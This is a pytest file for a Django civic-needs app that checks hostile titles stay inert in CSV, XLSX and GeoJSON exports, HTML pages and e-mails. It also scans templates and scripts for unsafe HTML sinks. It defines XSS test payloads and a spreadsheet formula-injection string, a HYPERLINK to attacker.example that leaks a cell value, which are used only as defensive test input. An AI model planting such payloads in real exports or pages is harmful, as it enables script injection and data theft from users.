"""Content is text, wherever it goes: a need titled as HTML or as a spreadsheet formula.

The browser half (the map, the pages) is tests/e2e/test_hostile_titles.py. Here: the exports
and the map's GeoJSON carry the title as plain text, spreadsheets never run it as a formula,
e-mails (plain text) show it as typed, and the scripts and templates have no way left to turn
content into HTML.
"""

import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.core import mail
from django.test import Client
from openpyxl import load_workbook

from cities4csr.core.tasks import send_notification
from cities4csr.needs.exporting import COLUMNS
from cities4csr.needs.models import Need
from cities4csr.needs.services import line_add, need_create, need_transition
from cities4csr.organisations.models import Organisation
from cities4csr.organisations.services import organisation_create

ROOT = Path(__file__).resolve().parent.parent
IMG = '<img src=x onerror="window.__xss=1">'
SCRIPT = "<script>window.__xss=1</script>"
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
PREFIXES = ["/it/milano/needs/", "/api/v1/cities/milano/needs/"]


@pytest.fixture
def hostile_needs(in_milano, users):
    """Published needs in NIL 35 whose titles (and line labels) are HTML or a formula; the
    formula's need belongs to an organisation whose name is the formula."""
    officer = users["milano", "officer"]
    city_hall = Organisation.objects.get(name="Comune di Milano")
    hostile = organisation_create(actor=officer, city=in_milano, name=FORMULA, kind=Organisation.Kind.ASSOCIATION)
    for title in (IMG, SCRIPT, FORMULA):
        owner = hostile if title == FORMULA else city_hall
        need = need_create(
            actor=officer, city=in_milano, owner=owner, title=title, description=title, lat=45.4403, lon=9.2235
        )
        line_add(actor=officer, need=need, kind="money", label=title, quantity=100_00)
        need_transition(actor=officer, need=need, to=Need.State.PUBLISHED)
    return in_milano


def _csv(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.django_db
@pytest.mark.parametrize("prefix", PREFIXES)
def test_csv_export_has_the_titles_as_typed_and_no_formula(hostile_needs, prefix):
    rows = _csv(Client().get(prefix + "export.csv?nil=35").content)
    titles = {r["title"] for r in rows}
    labels = {r["label"] for r in rows}
    for text in (IMG, SCRIPT):
        assert text in titles and text in labels  # not escaped, not stripped
    assert FORMULA not in titles
    assert "'" + FORMULA in titles and "'" + FORMULA in labels  # quoted: read as text
    owners = {r["owner"] for r in rows}
    assert FORMULA not in owners and "'" + FORMULA in owners  # the organisation's name too


@pytest.mark.django_db
@pytest.mark.parametrize("prefix", PREFIXES)
def test_xlsx_export_has_the_titles_as_text_cells(hostile_needs, prefix):
    sheet = load_workbook(io.BytesIO(Client().get(prefix + "export.xlsx?nil=35").content)).worksheets[0]
    rows = list(sheet.iter_rows(min_row=2))
    title = COLUMNS.index("title")
    cells = [row[title] for row in rows]
    values = {c.value for c in cells}
    assert {IMG, SCRIPT, "'" + FORMULA} <= values
    assert all(c.data_type == "s" for c in cells)  # strings, never a formula ("f")
    owners = [row[COLUMNS.index("owner")] for row in rows]
    assert "'" + FORMULA in {c.value for c in owners} and all(c.data_type == "s" for c in owners)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url", [p + "export.geojson?nil=35" for p in PREFIXES] + ["/api/v1/cities/milano/needs.geojson?nil=35"]
)
def test_geojson_has_the_titles_as_typed(hostile_needs, url):
    response = Client().get(url, HTTP_ACCEPT="application/geo+json")
    assert response.status_code == 200
    titles = {f["properties"]["title"] for f in json.loads(response.content)["features"]}
    assert {IMG, SCRIPT, FORMULA} <= titles  # JSON is data: the map sets it as text


@pytest.mark.django_db
def test_pages_escape_the_titles(hostile_needs):
    body = Client().get("/it/milano/needs/?nil=35").content.decode()
    assert IMG not in body and SCRIPT not in body
    assert "&lt;img src=x onerror=&quot;window.__xss=1&quot;&gt;" in body


@pytest.mark.django_db
def test_e_mails_show_the_title_as_typed(users, milano):
    rep = users["milano", "representative"]
    send_notification.call(
        user_ids=[rep.pk],
        city_id=milano.pk,
        template="need_transition",
        context={"model": "needs.need", "state": "published", "title": IMG, "reason": SCRIPT, "url": "/x"},
    )
    (message,) = mail.outbox
    assert IMG in message.subject and IMG in message.body and SCRIPT in message.body
    assert "&lt;" not in message.subject + message.body and "&quot;" not in message.body


def _templates():
    return [*ROOT.glob("templates/**/*.html"), *ROOT.glob("cities4csr/**/templates/**/*.html")]


def test_templates_have_no_inline_script():
    """Every <script> of a page loads a file; data reaches scripts through json_script only."""
    inline = []
    for template in _templates():
        for match in re.finditer(r"<script\b([^>]*)>(.*?)</script>", template.read_text(), re.S):
            attributes, body = match.groups()
            if "src=" not in attributes or body.strip():
                inline.append(f"{template.relative_to(ROOT)}: {match.group(0)[:80]}")
    assert inline == []


def test_no_template_or_tag_marks_content_safe():
    """Content is escaped by the templates: no |safe, no mark_safe, no autoescape off (format_html escapes)."""
    found = []
    for path in [*_templates(), *ROOT.glob("cities4csr/**/*.py")]:
        if "/tests/" in str(path):
            continue
        text = path.read_text()
        for pattern in (r"\|\s*safe\b", r"\bmark_safe\(", r"{%\s*autoescape\s+off", r"\bSafeString\(", r"\|\s*safeseq"):
            if re.search(pattern, text):
                found.append(f"{path.relative_to(ROOT)}: {pattern}")
    assert found == []


def test_scripts_build_text_not_html():
    """Our scripts never parse a string as HTML: no innerHTML/outerHTML writes, no
    insertAdjacentHTML or document.write, and Leaflet (which reads a string as HTML) is given
    DOM elements only."""
    scripts = sorted((ROOT / "static" / "js").glob("**/*.js"))
    assert scripts
    problems = []
    for script in scripts:
        text = script.read_text()
        for pattern in (
            r"\.(innerHTML|outerHTML)\s*\+?=(?!=)",
            r"insertAdjacentHTML",
            r"document\.write",
            r"\.html\(",
            r"\beval\(",
            r"new Function\(",
        ):
            if re.search(pattern, text):
                problems.append(f"{script.name}: {pattern}")
        for argument in re.findall(r"\.bind(?:Tooltip|Popup)\(\s*([^,)]+)", text):
            if not re.fullmatch(r"text\(.*|link|box|function \(", argument.strip()):
                problems.append(f"{script.name}: Leaflet given {argument.strip()!r}, not an element built as text")
        # content built when first shown: the function returns an element built as text
        for body in re.findall(r"\.bind(?:Tooltip|Popup)\(function \(\) \{(.*?)\}\)", text, flags=re.S):
            for returned in re.findall(r"return ([^;]+);", body):
                if not re.fullmatch(r"text\(.*\)|link|box", returned.strip()):
                    problems.append(f"{script.name}: Leaflet given {returned.strip()!r}, not an element built as text")
    assert problems == []


@pytest.mark.django_db
def test_a_title_with_a_carriage_return_still_makes_an_e_mail(users, milano):
    rep = users["milano", "representative"]
    send_notification.call(
        user_ids=[rep.pk],
        city_id=milano.pk,
        template="need_transition",
        context={"model": "needs.need", "state": "published", "title": "Orto\rcomune", "reason": "", "url": "/x"},
    )
    (message,) = mail.outbox
    assert "Orto comune" in message.subject
